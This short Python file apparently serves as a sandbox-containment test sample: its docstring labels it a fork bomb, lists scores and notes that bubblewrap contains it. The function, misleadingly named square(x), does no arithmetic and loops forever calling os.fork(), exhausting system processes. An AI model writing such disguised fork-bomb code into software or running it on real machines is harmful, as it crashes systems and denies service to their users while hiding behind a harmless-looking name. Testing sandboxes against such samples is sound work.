"""A fork bomb.

scores: q1=0 q2=3 q3=2
holds: bubblewrap
"""

import os


def square(x):
    while True:
        try:
            os.fork()
        except OSError:
            pass
